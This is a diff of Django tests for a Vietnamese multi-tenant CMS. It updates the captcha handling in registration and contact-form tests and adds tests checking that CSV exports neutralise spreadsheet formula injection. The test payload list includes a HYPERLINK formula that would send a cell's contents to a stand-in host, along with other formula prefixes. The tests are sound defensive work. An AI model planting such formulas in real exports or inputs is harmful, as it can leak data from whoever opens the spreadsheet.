@@ -5,7 +5,7 @@ import re
 from django_tenants.utils import schema_context
 
 from cms.models import EventIndexPage, EventRegistration, HomePage, OrganisationPage
-from tests.cms.test_comments import _captcha
+from tests.captcha import solved_captcha
 
 
 def test_search_finds_only_this_unions_pages(union_a, union_b):
@@ -56,7 +56,6 @@ def _event(union):
 
 def _register(client, event, email: str):
     html = client.get(event.url).content.decode()
-    token, answer = _captcha(html)
     action = re.search(r'action="(/dang-ky-su-kien/\d+/)"', html).group(1)
     return client.post(
         action,
@@ -65,8 +64,8 @@ def _register(client, event, email: str):
             "organisation": "Hội Tin học tỉnh",
             "email": email,
             "phone": "0912 345 678",
-            "captcha_token": token,
-            "captcha_answer": answer,
+            "consent": "on",
+            **solved_captcha(client),
         },
     )
 
@@ -145,25 +144,17 @@ def test_a_contact_message_is_stored_and_emailed(union_a, mailoutbox):
         )
         ContactFormField.objects.create(page=page, label="Nội dung", field_type="multiline")
     client = union_a.client()
-    token, answer = _captcha(client.get("/lien-he/").content.decode())
-    wrong = client.post(
-        "/lien-he/", {"noi_dung": "Xin chào", "captcha_token": token, "captcha_answer": "0"}
-    )
-    assert "Mã bảo mật không đúng" in wrong.content.decode()
-    token, answer = _captcha(wrong.content.decode())
+    wrong = client.post("/lien-he/", {"noi_dung": "Xin chào", "altcha": "bWF5"})
+    assert "Không đọc được mã xác minh" in wrong.content.decode()
     response = client.post(
         "/lien-he/",
-        {
-            "noi_dung": "Đề nghị phối hợp tổ chức hội thảo",
-            "captcha_token": token,
-            "captcha_answer": answer,
-        },
+        {"noi_dung": "Đề nghị phối hợp tổ chức hội thảo", **solved_captcha(client)},
     )
     assert response.status_code == 200 and "Cảm ơn" in response.content.decode()
     with schema_context(union_a.schema_name):
         submission = FormSubmission.objects.get(page=page)
         assert submission.form_data["noi_dung"] == "Đề nghị phối hợp tổ chức hội thảo"
-        assert "captcha_token" not in submission.form_data
+        assert "altcha" not in submission.form_data
     assert [m.to for m in mailoutbox] == [["vanphong@uniona.example.vn"]]
     assert "Đề nghị phối hợp tổ chức hội thảo" in mailoutbox[0].body
 
@@ -184,3 +175,66 @@ def test_a_union_changes_its_colour_and_a_bad_colour_is_refused(union_a):
         site_settings.full_clean()
         site_settings.save()
     assert "--primary: #b3261e" in union_a.client().get("/?mau=moi").content.decode()
+
+
+# -- formula injection in exports of what visitors typed (issue 14, item 8) -------------------
+
+_INJECTIONS = ['=HYPERLINK("http://x.example/?"&A1;"Bấm")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"]
+
+
+def _csv_of(response) -> str:
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    return body.decode("utf-8-sig")
+
+
+def _raw_cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_event_registrations_export_visitors_formulas_as_text(union_a, admin_a):
+    from cms.models import EventRegistration
+
+    event = _event(union_a)
+    with schema_context(union_a.schema_name):
+        for n, injection in enumerate(_INJECTIONS):
+            EventRegistration.objects.create(
+                event=event, name=injection, organisation=injection, email=f"x{n}@example.vn"
+            )
+    response = admin_a.get("/admin/snippets/cms/eventregistration/", {"export": "csv"})
+    assert response.status_code == 200
+    cells = _raw_cells(_csv_of(response))
+    for injection in _INJECTIONS:
+        assert injection not in cells and "'" + injection in cells
+
+
+def test_contact_submissions_export_visitors_formulas_as_text(union_a, admin_a):
+    from wagtail.contrib.forms.models import FormSubmission
+
+    from cms.models import ContactFormField, ContactPage
+
+    with schema_context(union_a.schema_name):
+        page = HomePage.objects.get().add_child(
+            instance=ContactPage(title="Liên hệ", slug="lien-he", to_address="a@example.vn")
+        )
+        ContactFormField.objects.create(page=page, label="Nội dung", field_type="multiline")
+        for injection in _INJECTIONS:
+            FormSubmission.objects.create(page=page, form_data={"noi_dung": injection})
+    response = admin_a.get(f"/admin/forms/submissions/{page.pk}/", {"export": "csv"})
+    assert response.status_code == 200
+    cells = _raw_cells(_csv_of(response))
+    for injection in _INJECTIONS:
+        assert injection not in cells and "'" + injection in cells
+
+
+def test_numbers_on_a_vietnamese_page_are_vietnamese_whatever_the_browser(demo_union, db):
+    from django.test import Client
+
+    from tenants.selectors import union_host
+
+    client = Client(HTTP_HOST=union_host(demo_union.schema_name))
+    html = client.get("/", HTTP_ACCEPT_LANGUAGE="en-US,en;q=0.9").content.decode()
+    total = re.search(r'data-visits="total">([^<]*)<', html).group(1)
+    assert re.fullmatch(r"\d{1,3}(\.\d{3})+", total), total
